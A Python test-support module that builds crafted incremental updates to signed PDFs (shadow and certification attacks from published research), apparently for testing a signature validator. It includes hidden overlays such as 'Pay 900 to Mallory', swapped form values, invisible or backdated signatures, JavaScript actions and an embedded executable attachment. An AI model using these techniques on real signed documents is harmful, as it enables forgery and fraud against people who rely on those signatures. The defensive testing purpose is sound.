"""Updates of a signed PDF that two readers read differently, and other things few look for.

What lives here: attacks as in `pdf_attacks`, each a function from the signed document to the one
that deceives, and the documents that somebody prepared for them before they were signed.
Source: ISO 32000-2 §7.3 to §7.5, §12.5, §12.7; Rohlmann et al., "Breaking the Specification: PDF
Certification" (2021); Mainka et al., "Shadow Attacks" (2021).
"""

from __future__ import annotations

import re
from typing import Final

from tests.support import pdf_attacks as attacks
from tests.support.handmade_pdf import plain_document
from tests.support.pdf_attacks import CONTENT, FIELD, FORM, LAYER, PAGE, ROOT, append, latest

_NEW: Final = 900
_EVIL_TEXT: Final = b"BT /F1 24 Tf 72 600 Td (Pay 900 to Mallory) Tj ET"
_SHAPE: Final = "/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
_SCRIPT: Final = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


# --- two readings of one update


def key_twice(signed: bytes) -> bytes:
    """The catalogue names two page trees: some readers take the first, others the last."""
    root = latest(signed, ROOT)[:-2] + b"/Pages 900 0 R >>"
    tree = b"<< /Type /Pages /Count 2 /Kids [901 0 R 901 0 R] /MediaBox [0 0 595 842] >>"
    page = latest(signed, PAGE).replace(b"/Contents 4 0 R", b"/Contents 902 0 R")
    page = page.replace(b"/Parent 2 0 R", b"/Parent 900 0 R")
    return append(signed, {ROOT: root, _NEW: tree, _NEW + 1: page, _NEW + 2: stream(_EVIL_TEXT)})


def other_header(signed: bytes) -> bytes:
    """The table says where the picture is, and another object's header stands there."""
    attacked = append(signed, {LAYER: latest(signed, LAYER)})
    behind = attacked[len(signed) :].replace(b"7 0 obj", b"9 0 obj")
    return signed + behind


def longer_than_said(signed: bytes) -> bytes:
    """The content as it was, and more between its length and its end."""
    body = latest(signed, CONTENT)
    body = body.replace(
        b"\nendstream", b"\n1 g 0 0 595 842 re f 0 g " + _EVIL_TEXT + b"\nendstream"
    )
    return append(signed, {CONTENT: body})


def fewer_objects(signed: bytes) -> bytes:
    """Nothing new, but that there are only so many objects: the picture is beyond them."""
    attacked = append(signed, {2: latest(signed, 2)})
    return signed + attacked[len(signed) :].replace(b"/Size 1000", b"/Size 7")


def row_twice(signed: bytes, *, first_is_true: bool = True) -> bytes:
    """A table that has the same object in two places."""
    attacked = append(signed, {CONTENT: latest(signed, CONTENT), _NEW: stream(_EVIL_TEXT)})
    attacked = attacked.replace(b"\n900 0 obj", b"\n4 0 obj")
    attacked = attacked.replace(b"900 1\n", b"4 1\n")
    if not first_is_true:
        rows = re.findall(rb"4 1\n\d{10} 00000 n \n", attacked[len(signed) :])
        attacked = signed + attacked[len(signed) :].replace(b"".join(rows), rows[1] + rows[0])
    return attacked


def hybrid(signed: bytes, *, table_is_true: bool = True) -> bytes:
    """An update whose table and whose stream of references say different things of one object."""
    true, evil = latest(signed, CONTENT), stream(_EVIL_TEXT)
    out, places = signed, []
    for body in (true, evil):
        places.append(len(out))
        out += b"4 0 obj\n%b\nendobj\n" % body
    in_table, in_stream = places if table_is_true else places[::-1]
    row = bytes((1,)) + in_stream.to_bytes(4, "big") + bytes(2)
    at = len(out)
    described = "/Type /XRef /W [1 4 2] /Index [4 1] /Size 1000 /Root 1 0 R"
    out += b"990 0 obj\n%b\nendobj\n" % stream(row, described)
    before = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    table = b"xref\n4 1\n%010d 00000 n \n990 1\n%010d 00000 n \n" % (in_table, at)
    trailer = b"trailer\n<< /Size 1000 /Root 1 0 R /Prev %d /XRefStm %d >>\n" % (before, at)
    return out + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(out)


def nothing_named(signed: bytes) -> bytes:
    """An object behind the end, and an end that names the signed table once more."""
    before = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    return attacks.text_without_a_table(signed) + b"startxref\n%d\n%%%%EOF\n" % before


def no_catalogue_named(signed: bytes) -> bytes:
    """An update that does not say where the catalogue is."""
    attacked = append(signed, {CONTENT: latest(signed, CONTENT)})
    return signed + attacked[len(signed) :].replace(b"/Root 1 0 R", b"")


# --- what is drawn is reached in ways that few follow


def with_long_generation() -> bytes:
    """The victim whose picture is named with more zeroes than anybody writes."""
    return attacks.with_trick("<< /Im0 7 000000 R >>")


def with_inner_stream() -> bytes:
    """The victim whose picture is named behind a keyword that does not belong there."""
    return attacks.with_trick("<< /A << >>\nstream\n/Im0 7 0 R >>")


def with_packed_resources() -> bytes:
    """What a page draws with is in a stream of objects; where they begin is said elsewhere."""
    made = plain_document()
    made.put(5, "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources 20 0 R >>")
    made.put(4, stream(b"BT /F1 24 Tf 72 400 Td (Pay 100) Tj ET /Im0 Do"))
    made.put(6, stream(b"0.5 g 60 300 300 80 re f", _SHAPE))
    made.put(7, stream(b"0.5 g 60 390 300 80 re f", _SHAPE))
    made.put(8, "null")
    made.put(9, "null")
    whole = made.classic()
    font = b"/Font << /F1 3 0 R >>"
    true = b"<< %b /XObject << /Im0 6 0 R >> >> " % font
    evil = b"<< %b /XObject << /Im0 7 0 R >> >> " % font
    head = b"20 0 "
    data = head + true + evil
    packed = stream(data, "/Type /ObjStm /N 1 /First 9 0 R")
    out = bytearray(whole)
    at = len(out)
    out += b"8 0 obj\n%b\nendobj\n" % packed
    number = len(out)
    out += b"9 0 obj\n%d\nendobj\n" % len(head)
    rows = b"".join(
        kind.to_bytes(1, "big") + one.to_bytes(4, "big") + other.to_bytes(2, "big")
        for kind, one, other in ((1, at, 0), (1, number, 0), (2, 8, 0), (1, len(out), 0))
    )
    start = len(out)
    before = int(re.findall(rb"startxref\s+(\d+)", whole)[-1])
    described = f"/Type /XRef /W [1 4 2] /Index [8 2 20 2] /Size 22 /Root 1 0 R /Prev {before}"
    out += b"21 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(rows, described), start)
    return bytes(out)


def packed_resources_moved(signed: bytes) -> bytes:
    """Another number says where the packed objects begin: at the second ones."""
    data = latest(signed, 8).partition(b"stream\n")[2]
    return _with_stream(signed, 9, b"%d" % (data.index(b">> >> <<") + 6))


def _with_stream(signed: bytes, number: int, body: bytes) -> bytes:
    """An update of one object, with a stream of references."""
    at = len(signed)
    out = signed + b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = b"".join(bytes((1,)) + one.to_bytes(4, "big") + bytes(2) for one in (at, len(out)))
    before = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    described = f"/Type /XRef /W [1 4 2] /Index [{number} 1 990 1] /Size 1000 /Root 1 0 R"
    table = stream(rows, f"{described} /Prev {before}")
    return out + b"990 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def inherited_font_replaced(signed: bytes) -> bytes:
    """The font that all pages inherit maps its letters to others for who copies them."""
    font = latest(signed, 3)[:-2] + b"/ToUnicode 900 0 R >>"
    return append(signed, {3: font, _NEW: stream(b"begincmap endcmap")})


def resources_overridden(signed: bytes) -> bytes:
    """A page has resources of its own, instead of those that it inherits."""
    page = latest(signed, 5)[:-2] + b"/Resources << /Font << /F1 900 0 R >> >> >>"
    font = latest(signed, 3)[:-2] + b"/ToUnicode 901 0 R >>"
    return append(signed, {5: page, _NEW: font, _NEW + 1: stream(b"begincmap endcmap")})


def parent_replaced(signed: bytes) -> bytes:
    """A page stands in its place and inherits from somewhere else."""
    page = latest(signed, 5).replace(b"/Parent 2 0 R", b"/Parent 900 0 R")
    font = latest(signed, 3)[:-2] + b"/ToUnicode 902 0 R >>"
    tree = latest(signed, 2).replace(b"/F1 3 0 R", b"/F1 901 0 R")
    objects = {5: page, _NEW: tree, _NEW + 1: font, _NEW + 2: stream(b"begincmap endcmap")}
    return append(signed, objects)


def with_widget_of_nobody() -> bytes:
    """The victim whose field is no field of the form, only seen on the page."""
    whole = attacks.victim()
    return append(whole, {FORM: latest(whole, FORM).replace(b"[8 0 R 10 0 R]", b"[10 0 R]")})


# --- forms


def with_looks_but_no_value() -> bytes:
    """The victim whose field shows "seven" and says nothing."""
    whole = attacks.victim()
    return append(whole, {FIELD: latest(whole, FIELD).replace(b"/V (seven)", b"")})


def shown_value_replaced(signed: bytes) -> bytes:
    """What showed something is filled in with something else."""
    field = latest(signed, FIELD)[:-2] + b"/V (nine) >>"
    looks = latest(signed, attacks.LOOKS).replace(b"seven", b"nines")
    return append(signed, {FIELD: field, attacks.LOOKS: looks})


def with_other_value() -> bytes:
    """The victim whose field says "nine hundred" and shows "seven"."""
    whole = attacks.victim()
    return append(whole, {FIELD: latest(whole, FIELD).replace(b"(seven)", b"(nine hundred)")})


def drawn_anew(signed: bytes) -> bytes:
    """Readers are told to draw what the fields say."""
    return append(signed, {FORM: latest(signed, FORM)[:-2] + b"/NeedAppearances true >>"})


def said_to_be_white(signed: bytes) -> bytes:
    """What a field says is to be drawn in white, by whoever draws it anew."""
    field = latest(signed, FIELD).replace(b"/DA (/F1 18 Tf)", b"/DA (1 g /F1 18 Tf)")
    return append(signed, {FIELD: field})


def form_of_its_own(signed: bytes) -> bytes:
    """A form that draws itself."""
    form = latest(signed, FORM)[:-2] + b"/XFA [(template) 900 0 R] >>"
    return append(signed, {FORM: form, _NEW: stream(b"<xdp/>")})


def filled_in_two_places(signed: bytes) -> bytes:
    """An empty field is filled, and seen in one place more."""
    field = latest(signed, attacks.EMPTY)[:-2] + b"/V (yes) /Kids [900 0 R] >>"
    twin = (
        b"<< /Type /Annot /Subtype /Widget /Rect [60 590 200 630] /F 4 /Parent 10 0 R "
        b"/AP << /N 901 0 R >> >>"
    )
    page = latest(signed, PAGE).replace(b"/Annots [", b"/Annots [900 0 R ")
    looks = stream(b"1 g 0 0 140 40 re f", "/Type /XObject /Subtype /Form /BBox [0 0 140 40]")
    return append(signed, {attacks.EMPTY: field, _NEW: twin, _NEW + 1: looks, PAGE: page})


def signed_elsewhere(signed: bytes) -> bytes:
    """An empty signature field that was seen nowhere is signed, and seen somewhere."""
    value = b"<< /Type /Sig /SubFilter /ETSI.CAdES.detached /Contents <3000> >>"
    field = latest(signed, attacks.SPARE)[:-2] + b"/V 900 0 R /AP << /N 901 0 R >> >>"
    field = re.sub(rb"/Rect\s*\[[^]]*\]", b"/Rect [300 700 500 740]", field)
    looks = stream(b"0 g 0 0 200 40 re f", "/Type /XObject /Subtype /Form /BBox [0 0 200 40]")
    return append(signed, {attacks.SPARE: field, _NEW: value, _NEW + 1: looks})


def with_field_to_sign() -> bytes:
    """The victim with an empty signature field that is seen nowhere."""
    return attacks.with_signature_field("null")


def with_nameless_field() -> bytes:
    """The victim whose empty field has no name, and a signature field that locks everything."""
    whole = attacks.with_signature_field("<< /Type /SigFieldLock /Action /All >>")
    return append(whole, {attacks.EMPTY: latest(whole, attacks.EMPTY).replace(b"/T (Blank)", b"")})


def with_form_of_its_own() -> bytes:
    """The victim whose form draws itself."""
    whole = attacks.victim()
    form = latest(whole, FORM)[:-2] + b"/XFA [(template) 12 0 R] >>"
    return append(whole, {FORM: form, attacks.SPARE: stream(b"<xdp>100</xdp>")})


def form_of_its_own_replaced(signed: bytes) -> bytes:
    """It draws something else."""
    return append(signed, {attacks.SPARE: stream(b"<xdp>900</xdp>")})


def signature_with_a_script(signed: bytes) -> bytes:
    """A further signature that does something when somebody looks at it."""
    attacked = attacks.sign_field_by_hand(signed)
    action = b"/FT /Sig /AA << /E %b >> /T (Later)" % _SCRIPT
    return _replaced(signed, attacked, b"/FT /Sig /T (Later)", action)


def signature_for_printers(signed: bytes) -> bytes:
    """A further signature that is seen on paper alone."""
    attacked = attacks.sneaky_signature(signed)
    return _replaced(signed, attacked, b"/F 4 ", b"/F 36 ")


def signature_without_a_place(signed: bytes) -> bytes:
    """A further signature with one number too many for where it is seen."""
    attacked = attacks.sneaky_signature(signed)
    return _replaced(signed, attacked, b"[300 700 500 740]", b"[300 700 500 740 0]")


def signature_beyond_measure(signed: bytes) -> bytes:
    """A further signature larger than any page."""
    attacked = attacks.sneaky_signature(signed)
    return _replaced(signed, attacked, b"[300 700 500 740]", b"[0 0 9999999 9999999]")


def coloured_field(signed: bytes) -> bytes:
    """A further signature field that nobody signed; readers draw it by what it says of itself."""
    attacked = attacks.sneaky_field(signed)
    return _replaced(signed, attacked, b"/AP << /N 902 0 R >>", b"/MK << /BG [1 1 1] >> ")


def lock_removed(signed: bytes) -> bytes:
    """The field that was signed locks nothing any more."""
    number = attacks.SPARE
    return append(signed, {number: re.sub(rb"(?s)/Lock\s*<<.*?>>", b"", latest(signed, number))})


# --- comments


def note_with_a_script(signed: bytes) -> bytes:
    """A comment that does something."""
    attacked = comment_beside(signed)
    return _replaced(signed, attacked, b"/Subtype /FreeText", b"/Subtype /FreeText /A " + _SCRIPT)


def comment_beside(signed: bytes) -> bytes:
    """No attack where comments are allowed: it hides nothing."""
    attacked = attacks.note_added(signed)
    return _replaced(signed, attacked, b"[60 580 400 640]", b"[300 700 500 740]")


def with_a_link() -> bytes:
    """The victim with a link."""
    whole = attacks.victim()
    page = latest(whole, PAGE).replace(b"/Annots [", b"/Annots [12 0 R ")
    action = b"<< /S /URI /URI (https://a.example) >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A %b >>" % action
    return append(whole, {PAGE: page, attacks.SPARE: link})


def link_led_elsewhere(signed: bytes) -> bytes:
    """The link leads to a script."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A %b >>" % _SCRIPT
    return append(signed, {attacks.SPARE: link})


# --- the catalogue


def attachment_added(signed: bytes) -> bytes:
    """A file in the file."""
    names = b"/Names << /EmbeddedFiles << /Names [(a) 900 0 R] >> >> >>"
    file = b"<< /Type /Filespec /F (a.exe) /EF << /F 901 0 R >> >>"
    root = latest(signed, ROOT)[:-2] + names
    return append(signed, {ROOT: root, _NEW: file, _NEW + 1: stream(b"MZ", "/Type /EmbeddedFile")})


def collection_added(signed: bytes) -> bytes:
    """The document becomes the cover of others."""
    return append(signed, {ROOT: latest(signed, ROOT)[:-2] + b"/Collection << /D (a) >> >>"})


def labels_added(signed: bytes) -> bytes:
    """Pages have other numbers."""
    labels = b"/PageLabels << /Nums [0 << /S /r /St 7 >>] >> >>"
    return append(signed, {ROOT: latest(signed, ROOT)[:-2] + labels})


def certification_hidden(signed: bytes) -> bytes:
    """The catalogue says no more that the document is certified."""
    root = re.sub(rb"/Perms\s*<<.*?>>", b"", latest(signed, ROOT), flags=re.DOTALL)
    return append(signed, {ROOT: root})


def store_over_the_content(signed: bytes) -> bytes:
    """Evidence under the number of a page's content."""
    root = latest(signed, ROOT)[:-2] + b"/DSS << /Certs [4 0 R] >> >>"
    return append(signed, {ROOT: root, CONTENT: stream(b"\x30\x00")})


def dictionary_moved(signed: bytes) -> bytes:
    """The field has the same signature in another object, made for another reason."""
    number, body = attacks.signature_object(signed)
    field = next(
        int(one[1])
        for one in re.finditer(rb"\n(\d+) 0 obj\s(.*?)endobj", signed, re.DOTALL)
        if b"/V %d 0 R" % number in one[2]
    )
    said = latest(signed, field).replace(b"/V %d 0 R" % number, b"/V 900 0 R")
    return append(signed, {field: said, _NEW: body[:-2] + b"/Reason (I agree) >>"})


def dated_back(signed: bytes) -> bytes:
    """A second dictionary with the last signature's value, and a hole where nothing stands."""
    _, start, end, _ = attacks.byte_range(signed)
    value = b"<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 20 30 40] /Contents "
    field = b"<< /FT /Sig /T (Earlier) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /V 901 0 R >>"
    form = latest(signed, FORM).replace(b"/Fields [", b"/Fields [900 0 R ")
    return append(signed, {_NEW: field, _NEW + 1: value + signed[start:end] + b" >>", FORM: form})


def stream(data: bytes, dictionary: str = "") -> bytes:
    """The body of a stream."""
    return f"<< /Length {len(data)} {dictionary} >>\nstream\n".encode() + data + b"\nendstream"


def plain() -> bytes:
    """Two pages that inherit all that they need."""
    return plain_document(pages=2).classic()


def more_resources(signed: bytes) -> bytes:
    """All pages inherit one thing more, which may be called somewhere."""
    tree = latest(signed, 2).replace(b"/F1 3 0 R", b"/F1 3 0 R /F2 900 0 R")
    return append(signed, {2: tree, _NEW: latest(signed, 3)})


def _replaced(signed: bytes, attacked: bytes, old: bytes, new: bytes) -> bytes:
    """What stands behind the signed octets, said otherwise; places are counted anew."""
    behind = attacked[len(signed) :]
    assert old in behind
    objects = {
        int(one[1]): one[2]
        for one in re.finditer(rb"(\d+) 0 obj\n(.*?)\nendobj\n", behind, re.DOTALL)
    }
    return append(signed, {number: body.replace(old, new) for number, body in objects.items()})
